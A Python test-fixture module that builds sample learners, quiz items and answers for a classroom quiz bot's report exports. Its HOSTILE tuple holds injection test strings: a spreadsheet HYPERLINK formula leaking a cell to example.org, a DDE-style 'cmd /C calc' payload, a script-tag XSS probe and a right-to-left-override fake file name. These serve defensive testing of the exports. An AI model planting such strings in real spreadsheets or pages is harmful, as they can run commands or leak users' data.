"""Small results to test with: plain functions, with defaults. Answers are told from a list."""

from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, datetime, timedelta

from bot.quiz.classes import CONSENT
from bot.reports.results import Answer, Assignment, Attempt, Choice, Item, Participant, Response, Results, Run

NOON = datetime(2026, 1, 5, 12, tzinfo=UTC)
ZONE = "Asia/Jakarta"

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "{=SUM(A1:A9)}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r\n=1+1",
    'two\r\nlines, a comma; a semicolon and "quotes"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "'=1+1",
    "''-1",
    "'quoted",
    "O'Neil, Ayu",
    "\u202egpj.exe\u202c",
    "\u200f\u2067abc\u2069",
    "👩‍👩‍👧" * 300,
    "a\ud800b",
    "\udfff=1",
    "\x00nul",
    "\ufeffmark",
    "0012",
    "1e5",
    "EX",
    "-",
    "<script>alert(1)</script>",
)
"""Names and answers that a spreadsheet, a parser or an encoder may stumble over."""


def a_learner(
    name: str = "Ayu", roster_id: str = "s1", *, on_roster: bool | None = None, joined: datetime = NOON
) -> Participant:
    return Participant(name, roster_id, joined, on_roster, consent=CONSENT)


def an_assignment(
    id: str = "a1",
    title: str = "Sesame Credit",
    *,
    kind: str = "practice",
    opens: datetime = NOON,
    due: datetime | None = None,
    zone: str = ZONE,
    counted: str = "first",
    pair: str | None = None,
    drawn: bool = False,
) -> Assignment:
    return Assignment(
        id=id,
        title=title,
        kind=kind,
        opens=opens,
        due_date=due,
        zone=zone,
        attempt_rule=counted,
        pre_test_id=pair,
        drawn=drawn,
    )


def an_item(
    question: str = "q1",
    *,
    assignment: str = "a1",
    version: str = "v1",
    kind: str = "one",
    ask: str = "What is the range?",
    choices: tuple[Choice, ...] | None = None,
    guess: float | None = 1 / 3,
) -> Item:
    usual = (Choice("350 to 950", True), Choice("0 to 100", False, "mix-up"), Choice("600 to 700", False, "too-narrow"))
    return Item(assignment, question, version, kind, ask, usual if choices is None else choices, guess)


def several(question: str = "q2", *, assignment: str = "a1") -> Item:
    choices = (Choice("Bills", True), Choice("Height", False, "mix-up"), Choice("Friends", True))
    return an_item(question, assignment=assignment, kind="several", ask="What counts?", choices=choices, guess=None)


def several_of(question: str, right: int) -> Item:
    """A question with three options, the first *right* of which are right."""
    choices = tuple(Choice(text, n < right, None if n < right else "mix-up") for n, text in enumerate("abc"))
    return an_item(question, kind="several", choices=choices, guess=None)


def number(question: str = "q3", *, assignment: str = "a1") -> Item:
    return an_item(question, assignment=assignment, kind="number", ask="How many people?", choices=(), guess=0.0)


def order(question: str = "q4", *, assignment: str = "a1") -> Item:
    choices = (Choice("First", True), Choice("Second", True), Choice("Third", True))
    return an_item(question, assignment=assignment, kind="order", ask="In which order?", choices=choices, guess=1 / 6)


def one_of_each(assignment: str = "a1") -> tuple[Item, ...]:
    return (
        an_item(assignment=assignment),
        several(assignment=assignment),
        number(assignment=assignment),
        order(assignment=assignment),
    )


def an_attempt(
    learner: str = "Ayu",
    assignment: str = "a1",
    *,
    number: int = 1,
    started: datetime = NOON,
    finished: datetime | None = NOON + timedelta(minutes=9),
    right: int = 3,
    of: int = 4,
    late: bool = False,
    counts: bool = True,
) -> Attempt:
    return Attempt(
        learner=learner,
        assignment=assignment,
        number=number,
        started=started,
        finished=finished,
        right=right,
        of=of,
        late=late,
        counts=counts,
    )


def an_answer(
    learner: str = "Ayu",
    question: str = "q1",
    *,
    assignment: str = "a1",
    attempt: int = 1,
    counts: bool = True,
    version: str = "v1",
    chosen: tuple[int, ...] = (0,),
    answer: str = "350 to 950",
    verdict: str = "right",
    found: int = 1,
    of: int = 1,
    late: bool = False,
    at: datetime = NOON,
) -> Answer:
    response = Response(
        question=question, version=version, chosen=chosen, answer=answer, verdict=verdict, found=found, of=of
    )
    return Answer(Run(learner, assignment, attempt, counts), response, late, at)


def some_results(
    *,
    title: str = "Class 9B",
    teachers: tuple[str, ...] = ("Ibu Sari",),
    zone: str = ZONE,
    made: datetime = NOON + timedelta(days=1),
    named: bool = True,
    learners: tuple[Participant, ...] | None = None,
    assignments: tuple[Assignment, ...] | None = None,
    attempts: tuple[Attempt, ...] | None = None,
    items: tuple[Item, ...] | None = None,
    misconceptions: Mapping[str, str] | None = None,
    answers: Sequence[Answer] | None = None,
) -> Results:
    """One learner who answered one question rightly, unless told otherwise; attempts follow from the answers."""
    learners = (a_learner(),) if learners is None else learners
    answers = tuple(an_answer(learner.name) for learner in learners) if answers is None else answers
    errors = {"mix-up": "Mixes things up.", "too-narrow": "Thinks too small."}
    return Results(
        title=title,
        teachers=teachers,
        zone=zone,
        made=made,
        named=named,
        participants=learners,
        assignments=(an_assignment(),) if assignments is None else assignments,
        attempts=attempts_of(answers) if attempts is None else attempts,
        items=one_of_each() if items is None else items,
        misconceptions=errors if misconceptions is None else misconceptions,
        answers=lambda: iter(answers),
    )


def attempts_of(answers: Iterable[Answer]) -> tuple[Attempt, ...]:
    """A finished attempt for each that answers belong to, from its first answer to its last."""
    by_attempt: dict[tuple[str, str, int], list[Answer]] = {}
    for answer in answers:
        by_attempt.setdefault(answer.run[:3], []).append(answer)
    return tuple(
        Attempt(
            learner=learner,
            assignment=assignment,
            number=number,
            started=own[0].at,
            finished=own[-1].at,
            right=sum(answer.response.right for answer in own),
            of=len(own),
            late=any(answer.late for answer in own),
            counts=own[0].run.counts,
        )
        for (learner, assignment, number), own in by_attempt.items()
    )


def a_class(size: int = 30, *, assignment: str = "a1", named: bool = True) -> Results:
    """A class in which each learner answered one question of each kind; those later in the list know more.

    Learners are called "Learner 1" and so on, with roster ids "s001" and so on.
    """
    learners = tuple(a_learner(f"Learner {n + 1}", f"s{n + 1:03}", on_roster=True) for n in range(size))
    if not named:
        learners = tuple(a_learner(learner.name, "") for learner in learners)
    told = [answer for n, learner in enumerate(learners) for answer in _a_run(learner.name, assignment, n, size)]
    return some_results(
        named=named,
        learners=learners,
        assignments=(an_assignment(assignment),),
        items=one_of_each(assignment),
        answers=told,
    )


def _a_run(learner: str, assignment: str, n: int, size: int) -> list[Answer]:
    knows = [(n + 1) * 5 > size * turn + n % 3 for turn in range(4)]
    at = [NOON + timedelta(minutes=n, seconds=30 * turn) for turn in range(4)]
    q1 = _told(knows[0], ((0,), "350 to 950", 1, 1), ((1 + n % 2,), ("0 to 100", "600 to 700")[n % 2], 0, 1))
    q2 = _told(knows[1], ((0, 2), "Bills; Friends", 2, 2), ((0, 1), "Bills; Height", 1, 2))
    q3 = _told(knows[2], ((), "6000", 1, 1), ((), "6", 0, 1))
    q4 = _told(knows[3], ((0, 1, 2), "First; Second; Third", 3, 3), ((1, 0, 2), "Second; First; Third", 1, 3))
    verdicts = [("right" if known else "partly" if turn in (1, 3) else "wrong") for turn, known in enumerate(knows)]
    return [
        an_answer(
            learner,
            f"q{turn + 1}",
            assignment=assignment,
            chosen=chosen,
            answer=answer,
            verdict=verdicts[turn],
            found=found,
            of=of,
            at=at[turn],
        )
        for turn, (chosen, answer, found, of) in enumerate((q1, q2, q3, q4))
    ]


Told = tuple[tuple[int, ...], str, int, int]
"""Chosen, answer, found, of."""


def _told(knows: bool, right: Told, wrong: Told) -> Told:
    return right if knows else wrong
